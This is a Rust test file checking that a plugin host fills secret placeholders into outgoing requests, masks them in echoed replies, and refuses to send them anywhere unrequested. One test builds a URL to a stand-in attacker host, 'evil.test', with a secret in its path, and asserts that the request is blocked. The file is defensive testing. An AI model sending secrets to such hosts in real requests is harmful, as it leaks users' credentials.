//! Secrets on their way out and back.

use rollcall::model::entity::Entity;
use rollcall::model::fault::Fault;
use rollcall::model::ids::SourceId;
use rollcall::port::provider::Provider as _;

use super::server::{Reply, Server};
use super::{Bench, FULL, SECRET, connect, probe};

async fn sent(settings: &[(&str, &str)]) -> ((String, Option<String>), Vec<String>) {
    // Echoes the request it was sent, head and body.
    let server = Server::start(|request| Reply::with("200 OK", "", request));
    let bench = Bench::new();
    let plugin = bench.guest("courier", &FULL);
    let path = settings.iter().find(|(name, _)| *name == "path").map_or("/", |(_, path)| path);
    let url = server.url(path);
    let mut all = vec![("url", url.as_str())];
    all.extend(settings.iter().filter(|(name, _)| *name != "path"));
    let connection = connect(&plugin, &all, &[&server.grant()]);
    (probe(&connection).await, server.seen())
}

#[tokio::test]
async fn a_secret_is_filled_in_on_the_way_out_and_covered_on_the_way_back() {
    let json =
        [("body", r#"{"s":"{secret:app_secret}"}"#), ("type", "application/json; charset=utf-8")];
    let ((echo, _), seen) = sent(&json).await;
    assert!(seen[0].ends_with(r#"{"s":"s3cr3t \"quoted\" & more"}"#), "{}", seen[0]);
    assert!(echo.ends_with(r#"{"s":"{secret:app_secret}"}"#), "{echo}");
    let form = [("body", "s={secret:app_secret}"), ("type", "application/x-www-form-urlencoded")];
    let ((echo, _), seen) = sent(&form).await;
    assert!(seen[0].ends_with("s=s3cr3t%20%22quoted%22%20%26%20more"), "{}", seen[0]);
    assert!(echo.ends_with("s={secret:app_secret}"), "{echo}");
    let ((echo, _), seen) = sent(&[("path", "/a?s={secret:app_secret}#x")]).await;
    assert!(
        seen[0].starts_with("GET /a?s=s3cr3t%20%22quoted%22%20%26%20more HTTP/1.1\r\n"),
        "{}",
        seen[0]
    );
    assert!(!echo.contains("s3cr3t"), "{echo}");
}

#[tokio::test]
async fn a_secret_that_is_not_there_or_not_asked_for_sends_nothing() {
    for (name, told) in [("unset", "unset"), ("other", "other"), ("APP_SECRET", "APP_SECRET")] {
        let ((denied, which), seen) = sent(&[("body", &format!("{{secret:{name}}}"))]).await;
        assert_eq!((denied.as_str(), which.as_deref()), ("4", Some(told)));
        assert_eq!(seen, Vec::<String>::new());
    }
    let ((denied, _), seen) = sent(&[("body", "{secret:app_secret")]).await;
    assert_eq!((denied.as_str(), seen.len()), ("5", 0));
}

#[tokio::test]
async fn a_secret_goes_to_no_host_that_is_not_granted_and_into_no_host_name() {
    let bench = Bench::new();
    let plugin = bench.guest("courier", &FULL);
    let spied =
        connect(&plugin, &[("url", "https://evil.test/{secret:app_secret}")], &["good.test"]);
    let (denied, host) = probe(&spied).await;
    assert_eq!((denied.as_str(), host.as_deref()), ("0", Some("evil.test")));
    let hidden =
        connect(&plugin, &[("url", "https://good.test/"), ("body", "{secret:app_secret}")], &[]);
    assert!(!format!("{:?}", probe(&hidden).await).contains(SECRET));
}

#[tokio::test]
async fn an_id_that_looks_like_a_placeholder_never_reaches_a_guest() {
    let bench = Bench::new();
    let connection = connect(&bench.guest("moody", &FULL), &[], &[]);
    let ids = [SourceId::parse("{secret:app_secret}").unwrap()];
    assert_eq!(connection.fetch(Entity::Employee, &ids).await, Err(Fault::NotFound));
    assert_eq!(connection.list(Entity::Employee, Some(&ids[0]), None).await, Err(Fault::NotFound));
}
